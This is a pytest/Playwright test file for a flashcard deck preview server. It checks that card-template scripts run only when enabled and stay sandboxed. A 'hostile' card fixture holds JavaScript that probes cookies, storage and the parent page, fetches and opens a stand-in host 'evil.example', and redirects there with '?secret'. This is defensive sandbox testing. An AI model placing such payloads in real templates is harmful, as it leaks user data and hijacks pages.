"""Scripts in card templates: they run only if the curator lets them, and reach nothing but their card."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from helpers.pictures import widths
from playwright.sync_api import expect
from previewing import at

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from conftest import Watch
    from playwright.sync_api import FrameLocator, Page

    from deckgen.commands.preview.server import Server

DECK = """\
deck: {id: scripts, name: Scripts}
note-types:
  - id: word
    fields: [Word, Meaning]
    css: '.card { color: rgb(1, 2, 3) } .flag { background: url("_dot.png") }'
    cards:
      - name: Word
        front: |
          <p id="word">{{Word}}</p><p id="told"></p><p class="flag"></p>
          <img id="dot" src="_dot.png"> {{type:Meaning}}
          <script src="_told.js"></script>
          <script>document.getElementById("word").textContent += "!";</script>
        back: |
          <p id="meaning">{{Meaning}}</p><button id="more" onclick="this.textContent = 'done'">more</button>
          {{type:Meaning}} {{hint:Word}} {{tts en_US:Word}}
          <script>document.getElementById("meaning").textContent += "?";</script>
  - id: hostile
    fields: [Text, Extra]
    cards:
      - name: Hostile
        front: |
          <p id="done">{{Text}}</p>
          <script>
            const found = [], tried = (name, action) => { try { action(); found.push(name); } catch {} };
            tried("page", () => parent.document.title);
            tried("storage", () => localStorage.setItem("a", "b"));
            tried("cookie", () => document.cookie);
            const asked = [fetch("deck"), fetch("http://evil.example/"), fetch("/deck")];
            new Image().src = "http://evil.example/a.png";
            tried("open", () => open("http://evil.example/").document);
            parent.postMessage({ key: 7, sound: "../x", shown: "no", given: {} }, "*");
            parent.postMessage("nonsense", "*");
            Promise.allSettled(asked).then((all) => {
              found.push(...all.filter((one) => one.status === "fulfilled").map(() => "fetch"));
              document.getElementById("done").textContent = `found: ${found.join(" ")}.`;
            });
          </script>
        back: |
          {{Extra}}<script>location = "http://evil.example/?secret";</script>
topics:
  - id: topic
    title: Topic
    cards:
      - {id: plain, q: What is plain?, a: This, unsourced: known}
      - {id: one, type: word, fields: {Word: Haus, Meaning: house}, unsourced: known}
      - {id: two, type: word, fields: {Word: Baum, Meaning: tree}, unsourced: known}
      - {id: sum, type: word, fields: {Word: 'a sum $a^2+b^2$', Meaning: '$c^2$'}, unsourced: known}
      - {id: evil, type: hostile, fields: {Text: waiting, Extra: x}, unsourced: known}
"""
DOT = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)


@pytest.fixture
def deck(tmp_path: Path) -> Path:
    (tmp_path / "media").mkdir()
    (tmp_path / "media" / "_dot.png").write_bytes(DOT)
    (tmp_path / "media" / "_told.js").write_text(
        "document.getElementById('told').textContent = 'told';\n"
    )
    (tmp_path / "cards.yaml").write_text(DECK, encoding="utf-8")
    return tmp_path


def frame(page: Page) -> FrameLocator:
    return page.frame_locator("#device iframe:not([hidden])")


def opened(
    served: Callable[..., Server],
    visit: Callable[..., Page],
    deck: Path,
    *,
    scripts: bool,
) -> Page:
    page = visit(served(deck, scripts=scripts).address)
    page.locator("body[data-drawn]").wait_for()
    return page


def test_they_do_not_run_unless_they_are_let(
    served: Callable[..., Server], visit: Callable[..., Page], deck: Path
) -> None:
    page = opened(served, visit, deck, scripts=False)
    page.keyboard.press("ArrowRight")
    at(page, "one~1")
    expect(frame(page).locator("#word")).to_have_text("Haus")
    expect(frame(page).locator("#told")).to_have_text("")
    assert page.locator("#device iframe").count() == 1


def test_they_run_in_their_own_document_where_they_are_let(
    served: Callable[..., Server], visit: Callable[..., Page], deck: Path
) -> None:
    page = opened(served, visit, deck, scripts=True)
    expect(frame(page).locator(".prompt")).to_have_text("What is plain?")
    page.keyboard.press("ArrowRight")
    at(page, "one~1")
    card = frame(page)
    expect(card.locator("#word")).to_have_text("Haus!")
    expect(card.locator("#told")).to_have_text("told")
    expect(card.locator("#word")).to_have_css("color", "rgb(1, 2, 3)")
    expect(card.locator(".flag")).to_have_css(
        "background-image", re.compile("data:image/png")
    )
    assert widths(card, "#dot") == [1]
    card.locator("#typeans").click()
    page.keyboard.type("hause")
    page.keyboard.press("Enter")  # within the card
    at(page, "one~1", "back")
    expect(card.locator("#meaning")).to_have_text("house?")
    expect(card.locator("code#typeans .typeBad")).to_have_count(1)
    card.locator("#more").click()
    expect(card.locator("#more")).to_have_text("done")
    card.locator("a.hint").click()
    expect(card.locator("div.hint")).to_be_visible()
    page.evaluate("""() => {
        speechSynthesis.speak = (spoken) => { window.spoken = `${spoken.lang} ${spoken.text}`; };
    }""")
    card.locator("a.replay-button").click()
    page.wait_for_timeout(200)
    assert page.evaluate("window.spoken") == "en-US Haus"
    card.locator("#meaning").click()
    page.keyboard.press("ArrowRight")  # a key in the card
    at(page, "two~1")
    expect(card.locator("#word")).to_have_text("Baum!")
    page.keyboard.press("Home")
    at(page, "plain~1")
    expect(frame(page).locator(".prompt")).to_have_text("What is plain?")


def test_formulas_are_drawn_where_they_run(
    served: Callable[..., Server], visit: Callable[..., Page], deck: Path, watch: Watch
) -> None:
    """With the letters of MathJax, on both sides, and on a card that comes after one without any."""
    page = opened(served, visit, deck, scripts=True)
    for _ in range(3):
        page.keyboard.press("ArrowRight")
    at(page, "sum~1")
    card = frame(page)
    drawn = card.locator("#word mjx-container")
    expect(drawn).to_have_count(1)
    expect(card.locator("#told")).to_have_text("told")
    assert "\\(" not in (card.locator("#word").text_content() or "")
    letters = card.locator("#word mjx-c").first
    assert "MJXTEX" in letters.evaluate(
        "one => getComputedStyle(one, '::before').fontFamily"
    )
    fonts = "[...document.fonts].filter((one) => one.status === 'loaded').length"
    page.wait_for_timeout(300)
    assert drawn.evaluate(f"() => {fonts}") > 0
    page.keyboard.press("Space")
    at(page, "sum~1", "back")
    expect(card.locator("#meaning mjx-container")).to_have_count(1)
    expect(card.locator("#qa")).to_have_css("opacity", "1")
    page.keyboard.press("ArrowLeft")
    at(page, "two~1")
    expect(frame(page).locator("#word")).to_have_text("Baum!")
    # MathJax looks for the settings of its menu, which the sandbox has no place for.
    assert [each for each in watch.faults if "MathJax localStorage" not in each] == []
    watch.faults.clear()


def test_they_reach_nothing(
    served: Callable[..., Server], visit: Callable[..., Page], deck: Path, watch: Watch
) -> None:
    page = opened(served, visit, deck, scripts=True)
    page.keyboard.press("End")
    at(page, "evil~1")
    expect(frame(page).locator("#done")).to_have_text("found: .")
    page.keyboard.press("Space")
    at(page, "evil~1", "back")
    page.wait_for_timeout(300)
    assert not any("evil.example" in each.url for each in page.frames)
    assert len(page.context.pages) == 1
    assert page.evaluate("localStorage.getItem('a')") is None
    page.keyboard.press("ArrowLeft")
    at(page, "sum~1")
    expect(frame(page).locator("#told")).to_have_text("told")
    # The browser tells of what the policies stopped, on its console.
    stopped = (
        "Content Security Policy",
        "sandboxed",
        "left the machine",
        "ERR_BLOCKED_BY_CSP",
        "Unsafe attempt",
    )
    assert [
        each for each in watch.faults if not any(word in each for word in stopped)
    ] == []
    watch.faults.clear()
